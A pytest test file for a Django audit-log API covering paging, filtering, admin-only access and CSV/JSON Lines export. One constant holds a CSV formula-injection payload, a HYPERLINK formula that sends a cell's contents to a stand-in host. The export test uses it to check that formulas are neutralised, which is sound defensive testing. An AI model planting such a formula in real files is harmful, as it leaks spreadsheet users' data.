"""GET /api/v1/audit and /api/v1/audit/export: a project's audit log, read by its admins'
sessions only, newest first, keyset-paged, filtered, and exported as CSV and JSON Lines."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext
from rest_framework.test import APIClient

from records.models import ApiKey, Membership
from records.store import audit_trail

EVIL = '=HYPERLINK("http://x.example/?"&A1,"<script>")'


def write(project, n: int, *, actor: str = "carol", action: str = "update", **fields) -> None:
    who = audit_trail.Actor("user", actor, address="192.0.2.1")
    with transaction.atomic():
        for i in range(n):
            audit_trail.record(
                project,
                action,
                fields.get("object_type", "alert_rule"),
                actor=who,
                object_id=i,
                object_name=fields.get("object_name", f"rule {i}"),
                before={"threshold": i},
                after={"threshold": i + 1},
            )


def session(persona, role: str = "admin", username: str = "alice") -> APIClient:
    """A logged-in member of the persona's project with `role`."""
    user = get_user_model().objects.create_user(username)
    Membership.objects.create(user=user, project=persona.project, role=role)
    client = APIClient()
    client.force_login(user)
    return client


def test_an_admin_reads_the_log_newest_first_in_keyset_pages(alice):
    write(alice.project, 5)
    client = session(alice)
    names, url = [], "/api/v1/audit?limit=2"
    with CaptureQueriesContext(connection) as queries:
        while url:
            answer = client.get(url)
            assert answer.status_code == 200, answer.content
            names += [e["object_name"] for e in answer.json()["results"]]
            url = answer.json()["next"]
    assert names == [f"rule {i}" for i in range(4, -1, -1)]
    assert not any("OFFSET" in q["sql"].upper() for q in queries.captured_queries)
    first = client.get("/api/v1/audit?limit=1").json()["results"][0]
    assert first == {
        "id": first["id"], "at": first["at"], "actor_kind": "user", "actor_name": "carol",
        "action": "update", "object_type": "alert_rule", "object_id": "4",
        "object_name": "rule 4", "before": {"threshold": 4}, "after": {"threshold": 5},
        "address": "192.0.2.1",
    }  # fmt: skip


def test_it_filters_by_action_object_type_and_person(alice):
    write(alice.project, 2, actor="carol")
    write(alice.project, 1, actor="dave", action="revoke", object_type="api_key")
    client = session(alice)

    def names(query: str) -> list[str]:
        answer = client.get("/api/v1/audit?" + query)
        assert answer.status_code == 200, answer.content
        return [(e["actor_name"], e["action"]) for e in answer.json()["results"]]

    assert names("actor=dave") == [("dave", "revoke")]
    assert names("action=update") == [("carol", "update"), ("carol", "update")]
    assert names("object_type=api_key&actor=carol") == []
    assert client.get("/api/v1/audit?actor=" + "x" * 300).status_code == 400


def test_its_queries_do_not_grow_with_the_page(alice, django_assert_num_queries):
    write(alice.project, 50)
    client = session(alice)
    # session, user, the project and the role (config.roles), the project again (the view), page
    with django_assert_num_queries(6):
        assert len(client.get("/api/v1/audit?limit=50").json()["results"]) == 50


def test_only_an_admins_session_reads_it(alice, bob):
    write(alice.project, 1)
    for scope in (ApiKey.Scope.READ, ApiKey.Scope.ALL):
        _, raw = ApiKey.issue(alice.project, scope)
        for path in ("/api/v1/audit", "/api/v1/audit/export?format=csv"):
            answer = alice.client(raw).get(path)
            assert answer.status_code == 403, (scope, path)
            assert "an API key cannot read it" in answer.json()["detail"]
    editor = session(alice, role="editor", username="eve")
    answer = editor.get("/api/v1/audit?project=acme")
    assert answer.status_code == 403
    assert "needs the admin role in acme" in answer.json()["detail"]
    # An admin of another project: acme's log does not exist for them.
    assert session(bob, username="bob").get("/api/v1/audit?project=acme").status_code == 404
    assert APIClient().get("/api/v1/audit").status_code in (401, 403)


def test_it_exports_csv_with_formulas_neutralised(alice):
    write(alice.project, 2, object_name=EVIL)
    answer = session(alice).get("/api/v1/audit/export?format=csv&project=acme")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith('attachment; filename="acme-audit-')
    rows = list(csv.DictReader(io.StringIO(b"".join(answer.streaming_content).decode())))
    assert [r["object_id"] for r in rows] == ["1", "0"]
    assert rows[0]["object_name"] == "'" + EVIL
    assert json.loads(rows[0]["before"]) == {"threshold": 1}
    assert (rows[0]["actor_name"], rows[0]["address"]) == ("carol", "192.0.2.1")


def test_it_exports_json_lines_filtered(alice):
    write(alice.project, 3, actor="carol")
    write(alice.project, 1, actor="dave")
    answer = session(alice).get("/api/v1/audit/export?format=jsonl&actor=carol")
    assert answer.status_code == 200
    assert answer["Content-Type"] == "application/x-ndjson"
    lines = [json.loads(line) for line in b"".join(answer.streaming_content).splitlines()]
    assert [(e["actor_name"], e["object_id"]) for e in lines] == [
        ("carol", "2"), ("carol", "1"), ("carol", "0")
    ]  # fmt: skip
    assert lines[0]["after"] == {"threshold": 3} and lines[0]["at"].endswith("Z")


def test_an_export_in_another_format_is_a_400_naming_it(alice):
    answer = session(alice).get("/api/v1/audit/export?format=parquet")
    assert answer.status_code == 400
    assert "format" in json.dumps(answer.json())


@pytest.fixture
def openapi(db) -> dict:
    response = APIClient().get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert response.status_code == 200
    return json.loads(response.content)


def test_the_schema_documents_who_reads_the_log(openapi):
    listing = openapi["paths"]["/api/v1/audit"]["get"]
    assert "an API key is refused" in listing["description"]
    parameters = {p["name"] for p in listing["parameters"]}
    assert {"action", "object_type", "actor", "project", "cursor", "limit"} <= parameters
    export = openapi["paths"]["/api/v1/audit/export"]["get"]
    assert set(export["responses"]["200"]["content"]) == {"text/csv", "application/x-ndjson"}
